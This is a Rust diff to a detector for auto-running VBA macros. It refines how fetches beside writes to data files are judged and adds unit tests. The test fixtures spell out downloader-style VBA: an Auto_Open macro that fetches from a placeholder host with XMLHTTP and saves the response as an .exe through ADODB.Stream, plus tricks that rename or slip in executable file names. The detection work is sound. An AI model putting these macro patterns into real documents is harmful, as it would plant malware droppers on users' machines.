@@ -7,6 +7,7 @@
 
 use crate::detections::Detection;
 use crate::finding::{Evidence, FindingKind, Level, Observation};
+use crate::languages::vba::is_data_file;
 use crate::languages::{Action, ActionKind, Behaviour, Language, Place};
 use crate::view::{Reads, View};
 
@@ -48,12 +49,13 @@ fn find(view: &View<'_>, found: &mut Vec<Observation>) {
 }
 
 /// Actions that no document should do when it is opened. Fetching counts beside a call site, reached too, that could
-/// store or start what was fetched.
+/// store or start what was fetched: not beside one that is known to store only data (a log, a table).
 fn grave(behaviour: &Behaviour) -> impl Iterator<Item = &Action> {
     let reached = behaviour.actions.iter().filter(|action| action.reached_by.is_some());
-    let stores = reached
-        .clone()
-        .any(|action| matches!(action.kind, ActionKind::Write | ActionKind::Download | ActionKind::Load));
+    let stores = reached.clone().any(|action| match action.kind {
+        ActionKind::Write => !is_data_file(&action.detail),
+        kind => matches!(kind, ActionKind::Download | ActionKind::Load),
+    });
     reached.filter(move |action| match action.kind {
         ActionKind::Run
         | ActionKind::Inject
@@ -135,11 +137,25 @@ mod tests {
 
     #[test]
     fn writing_and_fetching_are_hold_each_and_stop_together() {
-        let write = "Open \"a.txt\" For Output As #1\n";
+        let write = "Open p For Binary As #1\n";
+        let log = "Open ThisWorkbook.Path & \"\\\\log.txt\" For Append As #1\n".replace("\\\\", "\\");
         let fetch = "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://a.example/\"\nh.Send\n";
         let of = |body: &str| ids(ModuleKind::Standard, &format!("Sub Auto_Open()\n{body}End Sub"));
         assert_eq!(of(write), ["vba.auto-run"]);
         assert_eq!(of(fetch), ["vba.auto-run"]);
         assert_eq!(of(&format!("{fetch}{write}")), ["vba.auto-run-acts"]);
+        // A check for a new version that keeps a log, and a table that is stored.
+        assert_eq!(of(&format!("{fetch}{log}")), ["vba.auto-run"]);
+        let store = |name: &str| {
+            format!(
+                "{fetch}Set s = CreateObject(\"ADODB.Stream\")\ns.Open\ns.Write h.responseBody\ns.SaveToFile \"{name}\", 2\n"
+            )
+        };
+        assert_eq!(of(&store("rates.csv")), ["vba.auto-run"]);
+        assert_eq!(of(&store("rates.exe")), ["vba.auto-run-acts"]);
+        assert_eq!(of(&format!("{}{write}", store("rates.csv"))), ["vba.auto-run-acts"]);
+        assert_eq!(of(&format!("{}FileCopy \"rates.csv\", \"a.exe\"\n", store("rates.csv"))), ["vba.auto-run-acts"]);
+        let many = "For i = 1 To 20\nn = i & \".txt\"\nIf i = 15 Then n = \"x.exe\"\nOpen n For Output As #1\nNext\n";
+        assert_eq!(of(&format!("{fetch}{many}")), ["vba.auto-run-acts"]);
     }
 }
